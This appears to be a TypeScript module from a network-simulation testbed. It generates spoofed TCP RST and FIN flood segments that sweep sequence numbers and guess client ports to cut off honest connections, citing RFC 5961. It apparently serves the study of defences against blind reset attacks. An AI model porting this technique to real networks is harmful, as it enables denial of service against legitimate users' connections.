/**
 * Spoofed segments that are to cut off honest clients: they carry a client's address and try one sequence number after the
 * other, a window apart, so that one of them must fall into the window of the connection. Shared by RST and FIN floods.
 * Read first: RFC 5961 1.1.
 */

import type { Prng } from '../../tcpip/base/prng.ts'
import type { Prefix } from '../../tcpip/wire/address.ts'
import { prefixSize } from '../../tcpip/wire/address.ts'
import { SERVER_ADDRESS, SERVER_PORT } from '../../tcpip/wire/address-plan.ts'
import { writePacket } from '../../tcpip/wire/codec.ts'
import { ACK, Segment } from '../../tcpip/wire/segment.ts'
import type { PacketWriter } from './attack-action.ts'
import type { AttackSpecOf } from './attack-spec.ts'

const SEQUENCE_NUMBERS = 2 ** 32

/** Ports that clients connect from (Linux ip_local_port_range). */
const CLIENT_PORT_MIN = 32_768
const CLIENT_PORTS = 60_999 - CLIENT_PORT_MIN + 1

/** Packets after which the attacker looks anew who is connected; a sweep under way is finished first. */
const LOOK_INTERVAL = 1024

/** One end of an honest connection, as an attacker may know it. */
export interface Victim {
  readonly address: number
  readonly port: number
}

export interface Victims {
  /** Honest connections that are open now; makes a list, so not to be asked for every packet. */
  open(): readonly Victim[]
  /** Where honest clients live. */
  readonly addresses: Prefix
}

export class SequenceSweep implements PacketWriter {
  private readonly stride: number
  private readonly knowsPorts: boolean
  private readonly victims: Victims
  private readonly prng: Prng
  private readonly segment = new Segment()
  /** Packets to go until every part of the sequence space has had one. */
  private left = 0
  /** Those who were connected when the attacker looked last, and packets to go until it looks again. */
  private open: readonly Victim[] = []
  private lookIn = 0

  /** `flags`: what each segment says. With ACK it carries a random acknowledgment number. */
  constructor(spec: AttackSpecOf<'rst-flood' | 'fin-flood'>, flags: number, victims: Victims, prng: Prng) {
    this.stride = spec.stride
    this.knowsPorts = spec.victims === 'connections'
    this.victims = victims
    this.prng = prng
    const { segment } = this
    segment.destination = SERVER_ADDRESS
    segment.destinationPort = SERVER_PORT
    segment.flags = flags
  }

  write(bytes: Uint8Array, view: DataView, at: number): number {
    const { segment, prng } = this
    if (this.left === 0) this.choose()
    this.left--
    segment.seq = (segment.seq + this.stride) | 0
    if ((segment.flags & ACK) !== 0) segment.ack = prng.next()
    return writePacket(bytes, view, at, segment)
  }

  /** The next victim, any of those who are connected, and a whole sweep for it. With nobody connected it is a guess. */
  private choose(): void {
    const { segment, prng, victims } = this
    if (this.lookIn <= 0) {
      this.open = victims.open()
      this.lookIn = LOOK_INTERVAL
    }
    const victim = this.open[prng.below(Math.max(1, this.open.length))]
    const { addresses } = victims
    segment.source = victim?.address ?? (addresses.base + prng.below(prefixSize(addresses))) | 0
    const guess = CLIENT_PORT_MIN + prng.below(CLIENT_PORTS)
    segment.sourcePort = this.knowsPorts ? (victim?.port ?? guess) : guess
    segment.seq = prng.next()
    this.left = Math.ceil(SEQUENCE_NUMBERS / this.stride)
    this.lookIn -= this.left
  }
}
